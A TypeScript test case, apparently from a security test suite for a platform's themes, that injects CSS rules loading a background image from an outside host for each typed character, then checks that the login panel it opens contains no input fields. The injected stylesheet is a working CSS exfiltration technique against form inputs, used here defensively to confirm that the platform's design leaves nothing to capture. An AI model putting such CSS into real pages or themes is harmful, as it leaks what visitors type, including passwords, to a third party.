import type { ThemeAttack } from '../../attack.ts';

export const attack: ThemeAttack = {
  kind: 'theme',
  isAlone: true,
  gain: 'rules that load a picture for each character tell what the visitor types into the panel',
  instead: 'nothing is typed there: passwords are asked for on the platform’s own pages',
  expected: { opened: true, inputs: 0 },
  async run({ baitId, elsewhere }, { window, page, freelogApp, wait }) {
    const style = window.document.createElement('style');
    style.textContent = ['a', 'b', '1', '2']
      .map((character) => `input[value^="${character}"]{background:url(https://${elsewhere}/${character})}`)
      .join('');
    window.document.head.append(style);
    void freelogApp.addAuth?.(baitId, { immediate: true });
    await wait(2500);
    const panel = page.document.querySelector('#ui-root dialog');
    return {
      opened: panel !== null,
      inputs: panel?.querySelectorAll('input, textarea, [contenteditable]').length ?? -1,
    };
  },
};
